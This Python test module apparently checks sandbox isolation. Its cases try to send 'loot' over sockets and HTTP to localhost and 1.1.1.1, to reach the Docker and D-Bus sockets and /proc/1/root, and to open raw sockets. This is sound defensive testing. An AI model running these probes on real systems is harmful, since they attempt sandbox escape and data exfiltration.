"""Ways out of the machine, and to other servers on it. All hand in a solved lab, which keeps its marks."""

from hostile.corpus import case


@case("solved")
def sockets(lab):
    """TCP and UDP to this machine, where a server listens, and to the world."""
    lab.attack(
        """
        import socket
        for place in (("127.0.0.1", PORT), ("localhost", PORT), ("::1", PORT), ("1.1.1.1", 53)):
            try:
                with socket.create_connection(place, 0.5) as s: s.sendall(b"loot")
                got_through("connected to", place)
            except OSError as error: print(place, error)
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", PORT))
        except OSError as error: print(error)
        """
    )


@case("solved")
def urls_and_names(lab):
    """HTTP by urllib, and the resolver, which may have a socket of its own."""
    lab.attack(
        """
        import socket, urllib.request
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{PORT}/?loot", timeout=1)
            got_through("fetched")
        except OSError as error: print(error)
        socket.setdefaulttimeout(1)
        try:
            got_through(socket.getaddrinfo("example.org", 80))
        except OSError as error: print(error)
        """
    )


@case("solved")
def sockets_of_unix(lab):
    """A server of this machine by its path, by its abstract name, and those that commonly listen."""
    lab.attack(
        """
        import glob, socket
        common = ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/nscd/socket")
        for path in (SOCKET, "\\0" + SOCKET, "/proc/1/root" + SOCKET, *common):
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(path)
                    s.sendall(b"loot")
                got_through("connected to", path)
            except OSError as error: print(path, error)
        """
    )


@case("solved")
def raw_sockets(lab):
    """Raw packets, and the interfaces of the kernel that are sockets."""
    lab.attack(
        """
        import socket
        for family, number in ((socket.AF_INET, 1), (socket.AF_PACKET, 3)):
            try:
                socket.socket(family, socket.SOCK_RAW, number)
                got_through("a raw socket", family)
            except OSError as error: print(error)
        """
    )
